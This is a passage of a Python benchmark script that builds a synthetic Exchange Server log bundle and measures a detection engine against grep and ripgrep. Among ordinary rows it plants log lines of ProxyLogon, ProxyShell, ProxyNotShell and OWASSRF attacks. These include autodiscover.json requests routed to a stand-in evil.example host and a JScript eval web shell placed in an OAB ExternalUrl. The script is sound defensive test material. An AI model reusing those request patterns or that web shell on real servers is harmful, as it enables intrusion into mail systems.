#!/usr/bin/env python3
"""Hunt throughput against grep and ripgrep on a generated evidence bundle of a gigabyte or more.

1. Generates (seeded, deterministic) one offline evidence bundle: HttpProxy logs of every protocol
   folder (Layout B: bare header, then the directive block), ECP Server logs and IIS W3C logs, filled
   with ordinary Outlook/OWA/EWS/EAS/MAPI/probe traffic shaped like the rows of log-formats.md. Some
   ordinary rows contain prefilter literals on purpose (Outlook autodiscover.xml and autodiscover.json
   lookups, a ServerInfo~ anchor that only reached autodiscover, ExchangeServicesClient/15.00.0913.015,
   GET of logon.css, the logon.aspx page, Get-OwaVirtualDirectory), so the exact conditions, not the
   literals, must tell them apart.
   A known set of attack lines is planted at recorded file/line positions with the rule ids
   expected to report them.
2. Runs the hunt engine over the bundle in a child process (its own peak RSS, via wait4), then
   GNU grep -F -i -c -f <every prefilter literal of every rule> (environment locale and LC_ALL=C)
   and ripgrep (-j1 and default threads) over the same files, all pinned to one core with taskset.
3. Prints MB/s, the engine/grep and engine/rg ratios and the engine's peak RSS, and checks that
   every planted line is reported by its expected rule and that no other line is reported at all.

Exit status 1 when a planted line is missed or an ordinary line gives a finding; timings never fail
the run. `--size-mb 5` makes a small bundle for tests.
"""

from __future__ import annotations

import argparse
import json
import math
import os
import random
import shutil
import statistics
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
MB = 1 << 20

EX_WINDOWS = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\"
EX_BUNDLE = ("files", "C", "Program Files", "Microsoft", "Exchange Server", "V15")
SERVER_JSON = {"schema": 1, "hostname": "BENCH01",
               "exchange": {"exsetup_version": "15.01.2176.002", "install_path": EX_WINDOWS}}

HTTPPROXY_HEADER = (
    "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,"
    "UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,"
    "UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,"
    "TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,"
    "ResponseBytes,TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,"
    "CalculateTargetBackEndLatency,GlsLatencyBreakup,TotalGlsLatency,AccountForestLatencyBreakup,"
    "TotalAccountForestLatency,ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,"
    "SharedCacheLatencyBreakup,TotalSharedCacheLatency,ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,"
    "ClientReqStreamLatency,BackendReqInitLatency,BackendReqStreamLatency,BackendProcessingLatency,"
    "BackendRespInitLatency,BackendRespStreamLatency,ClientRespStreamLatency,KerberosAuthHeaderLatency,"
    "HandlerCompletionLatency,RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,CoreLatency,"
    "RoutingLatency,HttpProxyOverhead,TotalRequestTime,RouteRefresherLatency,UrlQuery,BackEndGenericInfo,"
    "GenericInfo,GenericErrors,EdgeTraceId,DatabaseGuid,UserADObjectGuid,PartitionEndpointLookupLatency,"
    "RoutingStatus"
)
HTTPPROXY_FIELDS = tuple(HTTPPROXY_HEADER.split(","))
IIS_FIELDS = ("date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
              "cs(Referer) sc-status sc-substatus sc-win32-status time-taken")
BOM = "\ufeff"
CRLF = "\r\n"

# Placeholders shared by every noise template; each row gets one value of each (unused ones ignored).
# 0 time, 1 request guid, 2 user, 3 SID RID, 4 client ip, 5 second guid, 6 mailbox name, 7-9 numbers,
# 10 health mailbox hex.
SLOTS = ("ts", "guid", "user", "rid", "ip", "guid2", "name", "n1", "n2", "n3", "hm")
SID = "S-1-5-21-1004336348-1177238915-682003330-"
OUTLOOK_UA = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)"
CHROME_UA = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML  like Gecko) "
             "Chrome/88.0.4324.182 Safari/537.36")
GENERIC_INFO = ("BeginRequest={ts};CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-1941997017;"
                "ProxyState-Complete=ProxyResponseData;SharedCacheGuard=0;EndRequest={ts};")


def _template(text: str) -> str:
    """A str.format template from text whose {slot} names are positions in SLOTS (other braces kept)."""
    text = text.replace("{", "{{").replace("}", "}}")
    for index, slot in enumerate(SLOTS):
        text = text.replace("{{" + slot + "}}", "{" + str(index) + "}")
    return text


def _proxy(**values: str) -> str:
    """One HttpProxy row template: named columns, the rest empty, as the real logs leave them."""
    unknown = set(values) - set(HTTPPROXY_FIELDS)
    if unknown:
        raise ValueError(f"not HttpProxy columns: {sorted(unknown)}")
    return _template(",".join(values.get(name, "") for name in HTTPPROXY_FIELDS))


def _proxied(protocol: str, host: str, stem: str, method: str, user_agent: str, **extra: str) -> str:
    """An authenticated request proxied to the back end (the common case in every protocol folder)."""
    values = {
        "DateTime": "{ts}", "RequestId": "{guid}", "MajorVersion": "15", "MinorVersion": "1",
        "BuildVersion": "2176", "RevisionVersion": "2", "Protocol": protocol, "UrlHost": host, "UrlStem": stem,
        "AuthenticationType": "NTLM", "IsAuthenticated": "true", "AuthenticatedUser": "{user}",
        "AnchorMailbox": "Sid~" + SID + "{rid}", "UserAgent": user_agent, "ClientIpAddress": "{ip}",
        "ServerHostName": "EX01", "HttpStatus": "200", "BackEndStatus": "200", "Method": method,
        "ProxyAction": "Proxy", "TargetServer": "ex01.contoso.local", "TargetServerVersion": "15.01.2176.000",
        "RoutingType": "IntraForest", "RoutingHint": "WindowsIdentity",
        "BackEndCookie": "Database~{guid2}~~2021-03-31T08:14:02", "RequestBytes": "{n2}",
        "ResponseBytes": "{n3}", "CalculateTargetBackEndLatency": "0", "TotalRequestTime": "{n1}",
        "GenericInfo": GENERIC_INFO, "RoutingStatus": "CafeV1",
    }
    values.update(extra)
    return _proxy(**values)


# Ordinary HttpProxy traffic per protocol folder: (weight, category, template).
HTTPPROXY_NOISE: dict[str, list[tuple[float, str, str]]] = {
    "Autodiscover": [
        (6, "normal", _proxied("Autodiscover", "autodiscover.contoso.com", "/autodiscover/autodiscover.xml",
                               "POST", OUTLOOK_UA)),
        (2, "literal:autodiscover.json-lookup", _proxied(
            "Autodiscover", "autodiscover.contoso.com", "/autodiscover/autodiscover.json", "GET",
            "Outlook-iOS/723.4027091.prod.iphone (4.2126.0)", AuthenticationType="", IsAuthenticated="false",
            AuthenticatedUser="", AnchorMailbox="Smtp~{name}@contoso.com",
            UrlQuery="?Email={name}%40contoso.com&Protocol=ActiveSync&RedirectCount=1")),
    ],
    "Ews": [
        (5, "normal", _proxied("Ews", "mail.contoso.com", "/EWS/Exchange.asmx", "POST",
                               "MacOutlook/16.45.21011103 (Intelx64 Mac OS X 11.2.1 (Build 20D74))")),
        (2, "literal:ews-managed-api-ua", _proxied("Ews", "mail.contoso.com", "/EWS/Exchange.asmx", "POST",
                                                  "ExchangeServicesClient/15.00.0913.015")),
        (3, "probe", _proxied("Ews", "localhost", "/ews/", "GET", "AMProbe/Local/ClientAccess",
                              AuthenticationType="Negotiate", AuthenticatedUser="CONTOSO\\HealthMailbox{hm}",
                              ClientIpAddress="127.0.0.1", BackEndStatus="", BackEndCookie="",
                              RequestBytes="", ResponseBytes="")),
    ],
    "Eas": [
        (1, "normal", _proxied("Eas", "mail.contoso.com", "/Microsoft-Server-ActiveSync/default.eas", "POST",
                               "Apple-iPhone13C2/1805.114", AuthenticationType="Basic",
                               UrlQuery="?Cmd=Ping&User={name}%40contoso.com&DeviceId={n1}A{n2}&DeviceType=iPhone")),
    ],
    "Mapi": [
        (1, "normal", _proxied("Mapi", "mail.contoso.com", "/mapi/emsmdb/", "POST", OUTLOOK_UA,
                               AnchorMailbox="MailboxGuid~{guid2}", UrlQuery="?MailboxId={guid2}@contoso.com")),
    ],
    "Owa": [
        (6, "normal", _proxied("Owa", "mail.contoso.com", "/owa/service.svc", "POST", CHROME_UA,
                               AuthenticationType="BEVersion-1941997017",
                               UrlQuery="?action=GetItem&EP=1&ID=-{n1}&AC=1")),
        (2, "literal:logon.css-get", _proxied(
            "Owa", "mail.contoso.com", "/owa/auth/Current/themes/resources/logon.css", "GET", CHROME_UA,
            AuthenticationType="", IsAuthenticated="false", AuthenticatedUser="", AnchorMailbox="",
            BackEndCookie="")),
        (1, "normal", _proxied("Owa", "mail.contoso.com", "/owa/auth/logon.aspx", "GET", CHROME_UA,
                               AuthenticationType="", IsAuthenticated="false", AuthenticatedUser="",
                               AnchorMailbox="", BackEndCookie="",
                               UrlQuery="?url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0")),
    ],
    "Ecp": [
        (4, "normal", _proxied("Ecp", "mail.contoso.com", "/ecp/DDI/DDIService.svc/GetList", "POST", CHROME_UA,
                               UrlQuery="?schema=MailboxService&msExchEcpCanary={n1}x{n2}.")),
        (1, "literal:serverinfo-autodiscover-only", _proxied(
            "Ecp", "mail.contoso.com", "/ecp/", "POST", CHROME_UA,
            AnchorMailbox="ServerInfo~ex01.contoso.local:444/autodiscover/autodiscover.xml?#", BackEndCookie="")),
    ],
    "Oab": [
        (1, "normal", _proxied("Oab", "mail.contoso.com", "/oab/{guid2}/oab.xml", "GET", OUTLOOK_UA)),
    ],
    "PowerShell": [
        (1, "normal", _proxied("PowerShell", "ex01.contoso.local", "/powershell", "POST", "Microsoft WinRM Client",
                               AuthenticationType="Kerberos", AuthenticatedUser="CONTOSO\\exadmin",
                               UrlQuery="?serializationLevel=Full;ExchClientVer=15.1.2176.2;"
                                        "clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.14393.4046")),
    ],
    "RpcHttp": [
        (1, "normal", _proxied("RpcHttp", "mail.contoso.com", "/rpc/rpcproxy.dll", "RPC_IN_DATA", "MSRPC",
                               UrlQuery="?ex01.contoso.local:6001")),
    ],
}
# Share of the HttpProxy bytes per protocol folder.
PROTOCOL_WEIGHTS = {"Mapi": 30, "Ews": 20, "Owa": 15, "Eas": 10, "Autodiscover": 10, "Ecp": 5, "RpcHttp": 4,
                    "Oab": 3, "PowerShell": 3}

ECP_NOISE = [
    (6, "normal", _template("{ts},EX01,ECP.Request,S:TIME={n1};S:SID={guid};S:CMD=Get-InboxRule;S:REQID=;"
                            "S:URL=/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary={n2}x{n3}.;"
                            "S:REFERRER=;S:EX=;S:ACTID={guid2};S:RS=0;S:BLD=15.1.2176.2;S:TNAME=<null>;S:TID=;"
                            "S:USID={guid2};S:EDOID=;S:ACID=")),
    (2, "normal", _template("{ts},EX01,ECP.Request,S:TIME={n1};S:SID={guid};'S:CMD=Get-Mailbox.Identity=''{name}''';"
                            "S:REQID=;S:URL=/ecp/UsersGroups/Mailboxes.svc/GetObject?msExchEcpCanary={n2}x{n3}.;"
                            "S:REFERRER=;S:EX=;S:ACTID={guid2};S:RS=0;S:BLD=15.1.2176.2")),
    (1, "literal:get-owavirtualdirectory", _template(
        "{ts},EX01,ECP.Request,S:TIME={n1};S:SID={guid};"
        "'S:CMD=Get-OwaVirtualDirectory.Identity=''EX01\\owa (Default Web Site)''';S:REQID=;"
        "S:URL=/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary={n2}x{n3}.&schema=OWAVirtualDirectory;"
        "S:REFERRER=;S:EX=;S:RS=0;S:BLD=15.1.2176.2")),
]

IIS_CORRELATION = "&CorrelationID=<empty>;&cafeReqId={guid};"
IIS_CHROME = ("Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)"
              "+Chrome/88.0.4324.182+Safari/537.36")
IIS_NOISE = [
    (6, "normal", _template("{ts} 10.0.10.11 GET /owa/ " + IIS_CORRELATION + " 443 CONTOSO\\{name} {ip} "
                            + IIS_CHROME + " - 200 0 0 {n1}")),
    (6, "normal", _template("{ts} 10.0.10.11 POST /owa/service.svc action=GetItem&EP=1&ID=-{n1}&AC=1"
                            + IIS_CORRELATION + " 443 CONTOSO\\{name} {ip} " + IIS_CHROME
                            + " https://mail.contoso.com/owa/ 200 0 0 {n1}")),
    (3, "normal", _template("{ts} 10.0.10.11 POST /EWS/Exchange.asmx " + IIS_CORRELATION
                            + " 443 - {ip} AppleExchangeWebServices/818.0.1 - 401 1 2148074254 {n1}")),
    (2, "literal:ews-managed-api-ua", _template(
        "{ts} 10.0.10.11 POST /EWS/Exchange.asmx " + IIS_CORRELATION
        + " 443 CONTOSO\\{name} {ip} ExchangeServicesClient/15.00.0913.015 - 200 0 0 {n1}")),
    (3, "probe", _template("{ts} ::1 GET /owa/auth.owa &encoding=; 443 - ::1 AMProbe/Local/ClientAccess - "
                           "200 0 0 {n1}")),
    (8, "normal", _template("{ts} 10.0.10.11 POST /mapi/emsmdb/ MailboxId={guid2}@contoso.com"
                            + IIS_CORRELATION + " 443 CONTOSO\\{name} {ip} "
                            "Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.13801;+Pro) - 200 0 0 "
                            "{n1}")),
    (3, "normal", _template("{ts} 10.0.10.11 POST /Microsoft-Server-ActiveSync/default.eas "
                            "Cmd=Ping&User={name}%40contoso.com&DeviceId={n2}A{n3}&DeviceType=iPhone"
                            + IIS_CORRELATION + " 443 CONTOSO\\{name} {ip} Apple-iPhone13C2/1805.114 - 200 0 0 {n1}")),
    (3, "literal:autodiscover.xml-outlook", _template(
        "{ts} 10.0.10.11 POST /Autodiscover/Autodiscover.xml " + IIS_CORRELATION + " 443 CONTOSO\\{name} {ip} "
        "Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.13801;+Pro) - 200 0 0 {n1}")),
    (2, "literal:autodiscover.json-lookup", _template(
        "{ts} 10.0.10.11 GET /autodiscover/autodiscover.json "
        "Email={name}%40contoso.com&Protocol=ActiveSync&RedirectCount=1" + IIS_CORRELATION
        + " 443 - {ip} Outlook-iOS/723.4027091.prod.iphone+(4.2126.0) - 200 0 0 {n1}")),
    (1, "literal:logon.css-get", _template(
        "{ts} 10.0.10.11 GET /owa/auth/Current/themes/resources/logon.css " + IIS_CORRELATION
        + " 443 - {ip} " + IIS_CHROME + " https://mail.contoso.com/owa/auth/logon.aspx 200 0 0 {n1}")),
    (1, "normal", _template("{ts} 10.0.10.11 GET /owa/auth/logon.aspx "
                            "url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0" + IIS_CORRELATION
                            + " 443 - {ip} " + IIS_CHROME + " - 200 0 0 {n1}")),
    (2, "normal", _template("{ts} 10.0.10.11 RPC_IN_DATA /rpc/rpcproxy.dll ex01.contoso.local:6001"
                            + IIS_CORRELATION + "&RequestId={guid2}; 443 CONTOSO\\{name} {ip} MSRPC - 200 0 0 {n1}")),
    (1, "normal", _template("{ts} 10.0.10.11 POST /powershell serializationLevel=Full;ExchClientVer=15.1.2176.2;"
                            "clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.14393.4046 80 "
                            "CONTOSO\\exadmin 10.0.10.5 Microsoft+WinRM+Client - 200 0 0 {n1}")),
]


@dataclass(frozen=True)
class Plant:
    """An attack line to plant: its text (leading timestamp replaced by the file's), where, what must hit."""

    stream: str              # HttpProxy/<Protocol>, ECP, IIS
    text: str
    rules: tuple[str, ...]   # every one of these must report the line
    label: str


# Attack rows adapted from log-formats.md (the same values, on this bundle's server and dates).
PLANTS = (
    Plant("HttpProxy/Ecp", "2021-03-03T06:49:46.210Z,0b9e4c2d-7f1a-4e3b-8c5d-6a7b8c9d0e1f,15,1,2176,2,,Ecp,"
          "mail.contoso.com,/ecp/y.js,,,false,,,ServerInfo~a]@ex01.contoso.local:444/ecp/proxyLogon.ecp?#,"
          "python-requests/2.25.1,203.0.113.45,EX01,241,241,,POST,Proxy,ex01.contoso.local:444,,,"
          "X-BEResource-Cookie" + "," * 46 + "CafeV1",
          ("PL-26855-HTTPPROXY", "PL-26855-BLOG", "PL-26855-STATIC-PATHS"),
          "ProxyLogon SSRF, ECP session obtained (241)"),
    Plant("HttpProxy/Ecp", "2021-03-03T06:59:20.359Z,c4e5f6a7-b8c9-4d0e-a1f2-3b4c5d6e7f80,15,1,2176,2,,Ecp,"
          "mail.contoso.com,/ecp/y.js,,,false,,,ServerInfo~a]@ex01.contoso.local:444/ecp/DDI/DDIService.svc/"
          "SetObject?msExchEcpCanary=8BeqxxxWYd1L8.&schema=ResetOABVirtualDirectory#,python-requests/2.25.1,"
          "203.0.113.45,EX01,200,200,,POST,Proxy,ex01.contoso.local:444,,,X-BEResource-Cookie" + "," * 46 + "CafeV1",
          ("PL-26855-HTTPPROXY", "PL-27065-RESETVDIR", "PL-26855-BLOG", "PL-26855-STATIC-PATHS"),
          "ProxyLogon SSRF resetting the OAB virtual directory"),
    Plant("HttpProxy/Mapi", "2021-03-03T07:10:02.004Z,5a6b7c8d-9e0f-4a1b-8c2d-3e4f5a6b7c8d,15,1,2176,2,,Mapi,"
          "mail.contoso.com,/ecp/x.js,,,false,,,ServerInfo~a]@ex01.contoso.local:444/mapi/emsmdb/?#,"
          "ExchangeServicesClient/0.0.0.0,203.0.113.45,EX01,200,200,,POST,Proxy,ex01.contoso.local:444,,,"
          "X-BEResource-Cookie" + "," * 46 + "CafeV1",
          ("PL-26855-HTTPPROXY", "PL-26855-BLOG", "PL-26855-STATIC-PATHS"), "ProxyLogon SSRF to MAPI"),
    Plant("HttpProxy/Owa", "2021-03-08T11:02:17.004Z,6f7e8d9c-0b1a-4c2d-9e3f-4a5b6c7d8e9f,15,1,2176,2,,Owa,"
          "mail.contoso.com,/owa/auth/x.js,,,false,,,ServerInfo~localhost/ecp/default.flt?,"
          "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html),192.0.2.10,EX01,500,,,"
          "GET,Proxy,,,,X-AnonResource-Backend-Cookie" + "," * 46 + "CafeV1",
          ("PL-26855-PROBE",), "Microsoft nmap check"),
    Plant("ECP", '2021-03-03T06:49:53.772Z,EX01,ECP.Request,"S:TIME=1873;S:SID=4b3f0d5e-1c2a-4e6b-9f7d-2a1b3c4d5e6f;'
          "'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=\"\"JScript\"\" "
          "runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"klk123456\"\"],\"\"unsafe\"\");}</script>''."
          "Identity=''982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3''';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?"
          'msExchEcpCanary=M1xSxxxDuw.&schema=OABVirtualDirectory;S:REFERRER=;S:EX=;S:RS=0;S:BLD=15.1.2176.2"',
          ("PL-27065-ECPSERVER",), "script in the OAB ExternalUrl through ECP"),
    Plant("IIS", "2021-03-03 06:49:42 10.0.10.11 POST /ecp/y.js &CorrelationID=<empty>;&cafeReqId="
          "8d2b6f1e-3c4a-4f5b-9e7d-1a2b3c4d5e6f; 443 - 203.0.113.45 ExchangeServicesClient/0.0.0.0 - 200 0 0 121",
          ("PL-IIS-VOLEXITY-ECP-UA", "PL-IIS-VOLEXITY-STATIC-ECP"),
          "ProxyLogon exploit POST with the exploit user agent"),
    Plant("IIS", "2021-03-03 07:02:11 10.0.10.11 POST /owa/auth/Current/themes/resources/logon.css "
          "&CorrelationID=<empty>;&cafeReqId=5b6c7d8e-9f0a-4b1c-8d2e-3f4a5b6c7d8e; 443 - 203.0.113.45 "
          "Mozilla/5.0+(compatible;+Baiduspider/2.0;++http://www.baidu.com/search/spider.html) - 200 0 0 88",
          ("PL-IIS-VOLEXITY-THEMES", "PL-IIS-VOLEXITY-OWA-CRAWLER"),
          "POST to a theme resource with a crawler user agent"),
    Plant("IIS", "2021-08-10 22:28:41 10.0.10.11 POST /autodiscover/autodiscover.json "
          "@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example&CorrelationID=<empty>;"
          "&cafeReqId=4e2a83c8-8e6b-4256-8c78-914f092c6012; 443 - 203.0.113.45 python-requests/2.26.0 - 200 0 0 64",
          ("PS-IIS-AUTODISCOVER",), "ProxyShell recon"),
    Plant("IIS", "2021-08-10 22:29:28 10.0.10.11 POST /autodiscover/autodiscover.json "
          "@evil.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBBUJhc2lj&Email=autodiscover/autodiscover.json"
          "%3F@evil.example&CorrelationID=<empty>;&cafeReqId=0cd07968-a191-4883-aa5b-101cd097efcf; 443 - "
          "203.0.113.45 python-requests/2.26.0 - 200 0 0 98",
          ("PS-IIS-AUTODISCOVER", "PNS-IIS-AUTODISCOVER-POWERSHELL"), "ProxyShell back-end PowerShell"),
    Plant("IIS", "2021-08-11 02:10:03 10.0.10.11 POST /autodiscover/autodiscover.json "
          "@evil.example/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBBUJhc2lj&Email=autodiscover/autodiscover.json"
          "%3F@evil.example&CorrelationID=<empty>;&cafeReqId=9f8e7d6c-5b4a-4392-8170-6f5e4d3c2b1a; 443 - "
          "203.0.113.46 python-requests/2.26.0 - 401 0 0 12",
          ("PS-IIS-AUTODISCOVER",), "ProxyShell attempt refused (401)"),
    Plant("IIS", "2022-09-29 03:12:44 10.0.10.11 POST /autodiscover/autodiscover.json "
          "@evil.example/owa/&Email=autodiscover/autodiscover.json%3F@evil.example&Protocol=XYZ"
          "&FooProtocol=%50owershell&CorrelationID=<empty>;&cafeReqId=a1b2c3d4-e5f6-4a7b-8c9d-0e1f2a3b4c5d; 443 "
          "CONTOSO\\bob 203.0.113.90 Mozilla/5.0+zgrab/0.x - 200 0 0 233",
          ("PNS-IIS-AUTODISCOVER-POWERSHELL",), "ProxyNotShell with encoded Powershell"),
    Plant("IIS", "2022-10-03 11:40:19 10.0.10.11 GET /autodiscover/autodiscover.json "
          "%40evil.example/%50owershell/&Email=autodiscover/autodiscover.json%3F%40evil.example"
          "&CorrelationID=<empty>;&cafeReqId=b2c3d4e5-f6a7-4b8c-9d0e-1f2a3b4c5d6e; 443 CONTOSO\\bob 203.0.113.91 "
          "python-requests/2.28.1 - 200 0 0 140",
          ("PNS-IIS-AUTODISCOVER-POWERSHELL",), "ProxyNotShell without a literal @ or powershell"),
    Plant("IIS", "2022-12-06 02:41:18 10.0.10.11 POST /owa/mastermailbox%40outlook.com/powershell "
          "&CorrelationID=<empty>;&cafeReqId=f0e1d2c3-b4a5-4968-8778-695a4b3c2d1e; 443 CONTOSO\\bob 203.0.113.77 "
          "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)"
          "+Chrome/105.0.5195.54+Safari/537.36 - 200 0 0 375",
          ("PNS-OWASSRF-IIS",), "OWASSRF front end"),
)


@dataclass
class PlantedLine:
    source: str              # Windows path of the file
    line: int
    text: str
    rules: tuple[str, ...]
    label: str


@dataclass
class Corpus:
    root: Path
    bundle: Path
    files: int = 0
    bytes: int = 0
    lines: int = 0
    planted: list[PlantedLine] = field(default_factory=list)
    categories: dict[str, int] = field(default_factory=dict)   # ordinary rows per category
    stream_bytes: dict[str, int] = field(default_factory=dict)


class _Rows:
    """Vectorised row values: pools drawn once, rows built by one str.format per row."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.guids = [self._guid() for _ in range(8192)]
        first = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory",
                 "niaj", "olivia", "peggy", "rupert", "sybil", "trent", "victor", "walter", "yvonne"]
        last = ["smith", "jones", "brown", "lee", "garcia", "miller", "davis", "wilson", "moore", "taylor"]
        self.names = [f"{a}.{b}" for a in first for b in last]
        self.users = [f"CONTOSO\\{name}" for name in self.names]
        self.ips = [f"198.51.100.{i}" for i in range(1, 255)] + [f"10.0.{i}.{j}" for i in (20, 21) for j in
                                                                   range(2, 250)]
        self.rids = [str(1100 + i) for i in range(len(self.names))]
        self.numbers = [str(i) for i in range(4096)]
        self.health = [f"{rng.getrandbits(128):032x}" for _ in range(8)]
        # Second-of-day and millisecond strings, looked up instead of formatted per row.
        self.clock = [f"{h:02d}:{m:02d}:{s:02d}" for h in range(24) for m in range(60) for s in range(60)]
        self.millis = [f".{ms:03d}Z" for ms in range(1000)]

    def _guid(self) -> str:
        text = f"{self.rng.getrandbits(128):032x}"
        return f"{text[:8]}-{text[8:12]}-4{text[13:16]}-{'89ab'[int(text[16], 16) % 4]}{text[17:20]}-{text[20:]}"

    def build(self, templates: Sequence[tuple[float, str, str]], stamps: list[str],
              categories: dict[str, int]) -> list[str]:
        rng = self.rng
        count = len(stamps)
        chosen = rng.choices(range(len(templates)), weights=[t[0] for t in templates], k=count)
        for index in set(chosen):
            categories[templates[index][1]] = categories.get(templates[index][1], 0) + chosen.count(index)
        pick = rng.choices
        columns = (
            stamps, pick(self.guids, k=count), pick(self.users, k=count), pick(self.rids, k=count),
            pick(self.ips, k=count), pick(self.guids, k=count), pick(self.names, k=count),
            pick(self.numbers, k=count), pick(self.numbers, k=count), pick(self.numbers, k=count),
            pick(self.health, k=count),
        )
        formats = [templates[index][2].format for index in chosen]
        return [fmt(*values) for fmt, values in zip(formats, zip(*columns, strict=True), strict=True)]

    def stamps(self, count: int, prefix: str, start_ms: int, span_ms: int, millis: bool) -> list[str]:
        """Sorted timestamps: prefix (the date) + time of day in [start_ms, start_ms + span_ms)."""
        offsets = sorted(self.rng.choices(range(start_ms, start_ms + span_ms), k=count))
        clock = self.clock
        if not millis:
            return [prefix + clock[offset // 1000] for offset in offsets]
        table = self.millis
        return [prefix + clock[offset // 1000] + table[offset % 1000] for offset in offsets]


def _windows_path(bundle: Path, path: Path) -> str:
    parts = path.relative_to(bundle / "files").parts
    return parts[0] + ":\\" + "\\".join(parts[1:])


@dataclass
class _LogFile:
    """One log file to write: header lines, rows drawn from templates, attacks at chosen rows."""

    path: Path
    stream: str
    head: list[str]
    templates: Sequence[tuple[float, str, str]]
    stamps: list[str]
    plants: dict[int, Plant] = field(default_factory=dict)   # row index -> attack
    stamp_len: int = 24                                     # leading timestamp a planted row keeps
    restart: tuple[int, list[str]] | None = None            # directive block written before this row
    bom: bool = False


# Rows are built and written this many at a time, so that memory does not grow with file size.
WRITE_ROWS = 8192


def _write(log: _LogFile, rows: _Rows, corpus: Corpus) -> None:
    log.path.parent.mkdir(parents=True, exist_ok=True)
    size = 0
    lines = len(log.head)
    source = _windows_path(corpus.bundle, log.path)
    with log.path.open("wb") as out:
        data = ((BOM if log.bom else "") + CRLF.join(log.head) + CRLF).encode("utf-8")
        out.write(data)
        size += len(data)
        for first in range(0, len(log.stamps), WRITE_ROWS):
            block = rows.build(log.templates, log.stamps[first:first + WRITE_ROWS], corpus.categories)
            text: list[str] = []
            for offset, row in enumerate(block):
                index = first + offset
                if log.restart is not None and index == log.restart[0]:
                    text.extend(log.restart[1])
                    lines += len(log.restart[1])
                plant = log.plants.get(index)
                if plant is not None:
                    # The attack keeps the timestamp of the row it replaces, so the file stays in order.
                    row = row[:log.stamp_len] + plant.text[log.stamp_len:]
                    corpus.planted.append(PlantedLine(source, lines + 1, row, plant.rules, plant.label))
                text.append(row)
                lines += 1
            data = (CRLF.join(text) + CRLF).encode("utf-8")
            out.write(data)
            size += len(data)
    corpus.files += 1
    corpus.bytes += size
    corpus.lines += lines
    corpus.stream_bytes[log.stream] = corpus.stream_bytes.get(log.stream, 0) + size


def _positions(rng: random.Random, count: int, plants: list[Plant]) -> dict[int, Plant]:
    return dict(zip(sorted(rng.sample(range(count), k=len(plants))), plants, strict=True)) if plants else {}


def generate_corpus(root: Path, size_mb: float, seed: int = 2021) -> Corpus:
    """Write the bundle under root/bundle; return what was written and where the attacks are."""
    for plant in PLANTS:
        if plant.stream.startswith("HttpProxy/") and plant.text.count(",") != len(HTTPPROXY_FIELDS) - 1:
            raise ValueError(f"planted HttpProxy row without {len(HTTPPROXY_FIELDS)} fields: {plant.label}")
    rng = random.Random(seed)
    rows = _Rows(rng)
    bundle = root / "bundle"
    if bundle.exists():
        shutil.rmtree(bundle)
    bundle.mkdir(parents=True)
    (bundle / "server.json").write_text(json.dumps(SERVER_JSON, indent=2) + "\n")
    corpus = Corpus(root=root, bundle=bundle)
    total = int(size_mb * MB)
    budgets = {"HttpProxy": total * 0.60, "ECP": total * 0.05, "IIS": total * 0.35}
    logging = bundle.joinpath(*EX_BUNDLE, "Logging")
    start = 1612742400  # 2021-02-08T00:00:00Z: a month of logs up to the March 2021 attacks
    by_stream: dict[str, list[Plant]] = {}
    for plant in PLANTS:
        by_stream.setdefault(plant.stream, []).append(plant)

    # HttpProxy: per protocol folder, hourly files of at most 16 MB, Layout B with a BOM.
    header = HTTPPROXY_HEADER
    weight_sum = sum(PROTOCOL_WEIGHTS.values())
    for protocol, weight in PROTOCOL_WEIGHTS.items():
        templates = HTTPPROXY_NOISE[protocol]
        budget = budgets["HttpProxy"] * weight / weight_sum
        files = max(1, math.ceil(budget / (16 * MB)))
        row_len = _mean_row_len(rows, templates)
        plants = by_stream.get(f"HttpProxy/{protocol}", [])
        for index in range(files):
            hour = start + index * max(1, 720 // files) * 3600
            count = max(len(plants) + 2, int(budget / files / row_len))
            stamps = rows.stamps(count, time.strftime("%Y-%m-%dT", time.gmtime(hour)),
                                 (hour % 86400) * 1000, 3600_000, millis=True)
            head = [header, "#Software: Microsoft Exchange Server", "#Version: 15.01.2176.002",
